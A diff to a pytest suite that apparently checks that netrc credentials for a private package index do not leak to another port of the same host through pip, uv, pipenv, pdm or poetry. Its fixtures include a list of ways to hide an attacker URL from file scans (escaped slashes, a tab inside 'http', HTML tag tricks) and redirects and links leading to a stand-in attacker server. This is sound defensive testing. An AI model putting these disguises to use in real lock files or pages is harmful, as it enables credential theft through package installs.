@@ -7,7 +7,7 @@ from __future__ import annotations
 
 import os
 import subprocess
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
@@ -68,6 +68,41 @@ def test_another_port_of_the_host_gets_nothing_from_pip(version: str, door: str,
     assert evil.loot == []
 
 
+#: Ways in which a project can name a URL so that a scan of its files does not see it.
+DISGUISES = {
+    "lock: escaped": (
+        "pylock.toml",
+        'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "corp-evil"\n[packages.archive]\nurl = "http:\\u002F\\u002F{rest}"\nhashes = {{sha256 = "00"}}\n',
+    ),
+    "lock: lines": (
+        "pylock.toml",
+        'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "corp-evil"\n[packages.archive]\nurl = """\nhttp://{rest}"""\nhashes = {{sha256 = "00"}}\n',
+    ),
+    "project: escaped": ("pyproject.toml", '[build-system]\nrequires = ["corp-evil @ \\u0068ttp://{rest}"]\nbuild-backend = "x"\n'),
+    "page: slash": ("page.html", '<a/href="http://{rest}">x</a>'),
+    "page: quotes": ("page.html", '<a title="<b>" href="http://{rest}">x</a>'),
+    "page: tab": ("page.html", '<a href="ht\ttp://{rest}">x</a>'),
+    "page: base": ("page.html", '<base title=">" href="http://{folder}"><a href="{file}">x</a>'),
+}
+
+
+@pytest.mark.parametrize("disguise", DISGUISES)
+def test_another_port_in_disguise_gets_nothing_from_pip(disguise: str, world: World, index: PrivateIndex, evil: Attacker) -> None:
+    world.use(toolchains.pip("newest"))
+    name, text = DISGUISES[disguise]
+    folder, file = f"127.0.0.1:{evil.port}/x/", "corp_evil-1-py3-none-any.whl"
+    (world.cwd / name).write_text(text.format(rest=folder + file, folder=folder, file=file))
+    words = {"pylock.toml": ["-r", "pylock.toml"], "pyproject.toml": ["."], "page.html": ["--find-links", "page.html", "corp-evil"]}[name]
+    command = ["pip", "install", "--target", world.folder / "out", "-i", f"http://{index.netloc}/simple/", *words]
+    world.run(*command, bare=True, **as_netrc(world))
+    assert evil.has_secret
+    evil.loot.clear()
+    configure(world, index)
+    world.run(*command)
+
+    assert evil.loot == []
+
+
 @pytest.mark.parametrize("version", ["0.9.30", "newest"])
 def test_another_port_of_the_host_gets_nothing_from_uv(version: str, world: World, index: PrivateIndex, evil: Attacker) -> None:
     world.use(toolchains.uv(version))
@@ -108,6 +143,36 @@ def test_a_redirect_that_bears_our_host_as_user_name_gets_nothing(version: str, 
         result = world.run(*command)
 
     assert result.returncode == 0, result.stderr
+    assert evil.asked
+    assert evil.loot == []
+
+
+def sends_to(way: str, evil: Attacker) -> Callable[[str], str]:
+    """Return how a server answers that leads to another port of our host: by a redirect, or by a link."""
+    there = f"http://127.0.0.1:{evil.port}/"
+    return lambda path: (
+        f"{there}{path}" if way == "redirect" else f'<a href="{there}corp_evil-1-py3-none-any.whl">corp_evil-1-py3-none-any.whl</a>'
+    )
+
+
+@pytest.mark.parametrize("way", ["redirect", "link"])
+@pytest.mark.parametrize("version", ["24.0", "newest"])
+def test_another_index_that_leads_pip_to_another_port_of_our_host_gets_nothing(
+    version: str, way: str, world: World, index: PrivateIndex, evil: Attacker
+) -> None:
+    """A netrc reaches every port of its host."""
+    world.use(toolchains.pip(version))
+    with Attacker(sends_to(way, evil)) as other:
+        url = f"http://{index.netloc}/simple/"
+        extra = f"http://localhost:{other.port}/simple/"
+        command = ["pip", "install", "--target", world.folder / "out", "-i", url, "--extra-index-url", extra, "corp-lib", "corp-evil"]
+        world.run(*command, bare=True, **as_netrc(world))
+        assert evil.has_secret
+        evil.loot.clear()
+        evil.asked.clear()
+        configure(world, index)
+        world.run(*command)
+
     assert evil.asked
     assert evil.loot == []
 
@@ -298,6 +363,29 @@ def test_another_port_that_a_project_names_gets_nothing_from_its_tool(
     world.run(name, "lock")
 
     assert evil.asked != []  # the tool runs: the credential goes to its index by URL or by name, not by host
+    assert evil.loot == []
+
+
+@pytest.mark.parametrize(("name", "way"), [("pipenv", "redirect"), ("pdm", "link"), ("poetry", "redirect"), ("poetry", "link")])
+def test_another_source_that_leads_a_tool_to_another_port_of_our_host_gets_nothing(
+    name: str, way: str, world: World, wrapped: Path, index: PrivateIndex, evil: Attacker
+) -> None:
+    use_other(world, wrapped, name)
+    with Attacker(sends_to(way, evil)) as other:
+        sources = {"corp": configure(world, index), "other": f"http://localhost:{other.port}/simple/"}
+        if name == "pipenv":
+            rows = "".join(f'[[source]]\nname = "{one}"\nurl = "{url}"\nverify_ssl = true\n' for one, url in sources.items())
+            (world.cwd / "Pipfile").write_text(f'{rows}[packages]\ncorp-lib = "*"\ncorp-evil = {{version = "*", index = "other"}}\n')
+        else:
+            rows = "".join(f'[[tool.{name}.source]]\nname = "{one}"\nurl = "{url}"\n' for one, url in sources.items())
+            (world.cwd / "pyproject.toml").write_text(f'{PROJECT}dependencies = ["corp-lib", "corp-evil"]\n{rows}')
+        world.run(name, "lock", bare=True, **as_netrc(world))
+        assert evil.has_secret
+        evil.loot.clear()
+        evil.asked.clear()
+        world.run(name, "lock")
+
+    assert evil.asked != []
     assert evil.loot == []
 
 
